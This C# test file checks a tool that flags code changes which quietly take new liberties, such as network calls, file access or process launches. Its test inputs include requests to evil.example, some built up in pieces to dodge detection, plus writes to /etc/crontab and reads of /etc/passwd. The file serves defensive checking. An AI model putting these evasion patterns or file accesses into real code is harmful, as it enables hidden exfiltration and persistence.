using Wirefix.Workspace.Checking.Liberties;
using static Wirefix.Workspace.Tests.Checking.LibertyCase;

namespace Wirefix.Workspace.Tests.Checking;

/// <summary>What is a liberty and, above all, what is none: right fixes move code, and write the same in other words.</summary>
public sealed class LibertyCheckTests
{
    [Theory]
    [InlineData("a comment", "return await http", "// nothing\n            return await http")]
    [InlineData("another path of the same host", "{Root}/items/{id}", "{Root}/items/{Uri.EscapeDataString(id)}?full=true")]
    [InlineData("a value escaped with which the address begins", "http.GetStringAsync(path, token)", "http.GetStringAsync(Uri.EscapeDataString(path), token)")]
    [InlineData("the most that is held of an answer", "await http.GetStringAsync(path, token);",
        "await BoundedAsync(path, token);\n\n    private Task<string> BoundedAsync(string path, CancellationToken token)\n    {\n"
        + "        http.MaxResponseContentBufferSize = 1 << 20;\n        http.DefaultVersionPolicy = HttpVersionPolicy.RequestVersionOrLower;\n"
        + "        return http.GetStringAsync(path, token);\n    }")]
    [InlineData("the same address in the culture of machines", "$\"{Root}/items/{id}\"", "FormattableString.Invariant($\"{Root}/items/{id}\")")]
    [InlineData("and by another call", "$\"{Root}/items/{id}\"",
        "string.Create(System.Globalization.CultureInfo.InvariantCulture, $\"{Root}/items/{id}\")")]
    [InlineData("the same address by a message", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "using var request = new HttpRequestMessage(HttpMethod.Get, $\"{Root}/items/{id}\");\n"
        + "            request.Headers.Add(\"X-Tenant\", \"a\");\n"
        + "            using var answer = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead);\n"
        + "            return await answer.Content.ReadAsStringAsync();")]
    [InlineData("the address by a local", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "var address = new Uri(Root + \"/items/\" + id);\n            return await http.GetStringAsync(address);")]
    [InlineData("what a member that it called did", "WriteAsync($\"items/{name}\", text);", "System.IO.File.WriteAllTextAsync($\"items/{name}\", text);")]
    [InlineData("the catch-all as it was, with more in it", "log.Warn(e);", "log.Warn(new InvalidOperationException(id, e));")]
    [InlineData("a handler for what is told apart", "catch (Exception e)",
        "catch (HttpRequestException)\n        {\n            return \"none\";\n        }\n        catch (Exception e)")]
    [InlineData("a catch-all that throws", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "try { return await http.GetStringAsync($\"{Root}/items/{id}\"); } catch (Exception) { log.ToString(); throw; }")]
    [InlineData("a catch-all that hands on", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "try { return await http.GetStringAsync($\"{Root}/items/{id}\"); } catch (Exception own) { return await Task.FromException<string>(own); }")]
    [InlineData("a filter for what it is", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "try { return await http.GetStringAsync($\"{Root}/items/{id}\"); "
        + "} catch (Exception own) when (own is TimeoutException or TaskCanceledException) { return \"\"; }")]
    [InlineData("a semaphore, a lock, streams in memory", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "using var gate = new SemaphoreSlim(1);\n            await gate.WaitAsync();\n"
        + "            using var memory = new System.IO.MemoryStream();\n"
        + "            using var reader = new System.IO.StreamReader(memory);\n"
        + "            return await http.GetStringAsync($\"{Root}/items/{id}\") + Environment.NewLine + nameof(Depot) + typeof(Depot).Name;")]
    [InlineData("a path that is put together", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "var path = Root; path += \"/items/\" + id; if (id.Length > 3) path += \"?full=true\"; return await http.GetStringAsync(path);")]
    [InlineData("a path by a function", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
        "return await http.GetStringAsync(PathOf(id)); static string PathOf(string of) => Root + \"/items/\" + Uri.EscapeDataString(of);")]
    [InlineData("a path of many pieces", "{Root}/items/{id}\"",
        "/items/\" + id + \"/a/\" + id + \"/b/\" + id + \"/c/\" + id + \"/d/\" + id + \"/e/\" + id + \"/f\"")]
    [InlineData("a field of a record", "int Count)", "int Count, decimal Price = 0)")]
    [InlineData("a private member's parameters", "WriteAsync(string path, string text)", "WriteAsync(string path, string text, int times = 1)")]
    [InlineData("a private member that is needed no more",
        "    private static Task WriteAsync(string path, string text) => System.IO.File.WriteAllTextAsync(path, text);\n", "",
        "WriteAsync($\"items/{name}\", text);", "System.IO.File.WriteAllTextAsync($\"items/{name}\", text);")]
    [InlineData("a private member more", "    public async Task<string[]> AllAsync",
        "    private static int Most => 10;\n\n    public async Task<string[]> AllAsync")]
    public async Task Is_none(string what, string old, string @new, string old2 = "", string new2 = "")
    {
        Assert.NotEmpty(what);
        Assert.Empty(await TakenAsync(Changed(Changed(Shop, old, @new), old2, new2)));
    }

    [Theory]
    [InlineData("{Root}/items/{id}", "https://other.example/items/{id}", "network: an address of other.example (/Shop/Shop.cs:13)")]
    [InlineData("$\"{Root}/items/{id}\"", "\"//other.example/\" + id", "network: an address of other.example (/Shop/Shop.cs:13)")]
    [InlineData("$\"{Root}/items/{id}\"", "id", "network: an address of a parameter of string (/Shop/Shop.cs:13)")]
    [InlineData("$\"{Root}/items/{id}\"", "string.Concat(\"ht\", \"tps:\", id)",
        "network: an address of String.Concat(\"ht\", \"tps:\", a parameter of string) (/Shop/Shop.cs:13)")]
    [InlineData("System.IO.File.WriteAllTextAsync(path", "System.IO.File.AppendAllTextAsync(\"/etc/crontab\"",
        "files: File (writing) of \"/etc/crontab\" (/Shop/Shop.cs:28)")]
    public async Task Says_what_and_where(string old, string @new, string liberty)
    {
        Assert.Equal([liberty], (await TakenAsync(Changed(Shop, old, @new))).Select(taken => taken.ToString()));
    }

    /// <summary>An address that is put together in pieces, so that none of them is one.</summary>
    [Theory]
    [InlineData("var u = \"http\"; u += \":\"; u += \"/\"; u += \"/evil.example/x\"; return await http.GetStringAsync(u + id);",
        "a text that is put together of")]
    [InlineData("var u = \"/\"; u += \"/evil.example/\"; return await http.GetStringAsync(u + id);", "evil.example")]
    [InlineData("var u = \"http\"; u = u + \":/\"; u = u + \"/evil.example/\"; return await http.GetStringAsync(u + id);", "evil.example")]
    [InlineData("var u = \"http\"; return await http.GetStringAsync(u += \":/\" + \"/evil.example/\");", "evil.example")]
    [InlineData("string u; (u, _) = (string.Concat(\"http:/\", \"/evil.example\"), 1); return await http.GetStringAsync(u);",
        "String.Concat(\"/evil.example\", \"http:/\")")]
    [InlineData("Make(out var u); return await http.GetStringAsync(u); static void Make(out string to) => to = string.Concat(\"http:/\", \"/evil.example\");",
        "String.Concat(")]
    [InlineData("var u = \"/\"; Make(ref u); return await http.GetStringAsync(u); static void Make(ref string to) { to += \"/evil.example/\"; }",
        "evil.example")]
    [InlineData("var u = \"/\"; ref var v = ref u; v = string.Concat(\"http:/\", \"/evil.example\"); return await http.GetStringAsync(u);",
        "more than can be followed")]
    [InlineData("return await To(\"/orders\"); Task<string> To(string u) { u = string.Concat(\"http:/\", \"/evil.example\"); return http.GetStringAsync(u); }",
        "String.Concat(")]
    [InlineData("return await http.GetStringAsync(To()); static string To() => string.Concat(\"http:/\", \"/evil.example\");", "String.Concat(")]
    [InlineData("return await http.GetStringAsync(FormattableString.Invariant($\"https://evil.example/{id}\"));", "evil.example")]
    [InlineData("return await http.GetStringAsync($\"/{id}\");", "\"/\" and a parameter of string")]
    public async Task Pieces_are_no_way_around(string statements, string said)
    {
        var taken = await TakenAsync(Changed(Shop, Call, statements));

        Assert.Contains(taken, liberty => liberty.Kind == LibertyKind.Network && liberty.What.Contains(said, StringComparison.Ordinal));
    }

    /// <summary>What was escaped is no more: any address may stand there then.</summary>
    [Fact]
    public async Task An_escape_that_is_gone_opens_the_address()
    {
        var escaped = Changed(Shop, "http.GetStringAsync(path, token)", "http.GetStringAsync(Uri.EscapeDataString(path), token)");

        Assert.Equal(LibertyKind.Network, Assert.Single(await TakenAsync(Shop, escaped)).Kind);
    }

    /// <summary>What both sides put together is the same only where the pieces are.</summary>
    [Fact]
    public async Task Other_pieces_are_another_text()
    {
        var before = Changed(Shop, Call, "var u = \"\"; u += Uri.EscapeDataString(id); u += \":\"; return await http.GetStringAsync(u);");

        Assert.Empty(await TakenAsync(Changed(before, "return await http.GetStringAsync(u)", "log.ToString(); return await http.GetStringAsync(u)"), before));
        Assert.NotEmpty(await TakenAsync(Changed(before, "u += \":\";", "u += \":\"; u += \"/\"; u += \"/evil.example\";"), before));
    }

    [Fact]
    public async Task Code_may_move_between_the_members_that_change()
    {
        var moved = Changed(
            Changed(Shop, "WriteAsync($\"items/{name}\", text);", "Task.CompletedTask;"),
            "log.Warn(e);", "log.Warn(e);\n            await WriteAsync($\"items/{id}\", \"\");");

        Assert.Empty(await TakenAsync(moved));
    }

    [Fact]
    public async Task What_the_member_beside_it_did_is_no_excuse()
    {
        var taken = await TakenAsync(Changed(Shop, "log.Warn(e);", "log.Warn(e);\n            await WriteAsync($\"items/{id}\", \"\");"));

        Assert.Equal("files: File (writing) of \"items/\" and a parameter of string, through Depot.WriteAsync(string, string) (/Shop/Shop.cs:18)",
            Assert.Single(taken).ToString());
    }

    /// <summary>A member that was called before, too, is called with something else.</summary>
    [Theory]
    [InlineData("depot.Read(\"orders.json\")", "depot.Read(\"orders.json\") + depot.Read(\"/etc/passwd\")", true)]
    [InlineData("depot.Read(\"orders.json\")", "string.Concat(depot.Read(\"orders.json\"), depot.Read(\"orders.json\"))", false)]
    [InlineData("depot.Say(\"orders\")", "depot.Say(\"/etc/passwd\")", false)]
    public async Task What_a_member_is_given_counts(string old, string @new, bool isTaken)
    {
        const string Orders = """
            namespace Shop;

            public sealed class Orders(IDepot depot)
            {
                public string Read() => depot.Read("orders.json") + depot.Say("orders");
            }

            public interface IDepot
            {
                string Read(string path);

                string Say(string what);
            }

            internal sealed class Depot : IDepot
            {
                public string Read(string path) => Open(path);

                public string Say(string what) => what;

                private static string Open(string name) => System.IO.File.ReadAllText(name);
            }

            """;

        var taken = (await TakenAsync(Changed(Orders, old, @new), Orders)).Select(liberty => liberty.ToString());

        Assert.Equal(isTaken ? ["files: File (reading) of \"/etc/passwd\", through IDepot.Read(string) (/Shop/Shop.cs:5)"] : [], taken);
    }

    [Fact]
    public async Task What_is_too_far_away_to_be_followed_is_told()
    {
        var steps = Enumerable.Range(0, 500).Select(step => $"    public static void Step{step}() => Step{step + 1}();");
        var text = $$"""
            public static class Steps
            {
                public static void Start() => Console.WriteLine();

            {{string.Join('\n', steps)}}

                public static void Step500() => System.Diagnostics.Process.Start("id");
            }
            """;

        var taken = await TakenAsync(Changed(text, "Console.WriteLine()", "Step0()"), text);

        Assert.Equal("reflection: more than can be followed, through Steps.Step0() (/Shop/Shop.cs:3)", Assert.Single(taken).ToString());
    }
}
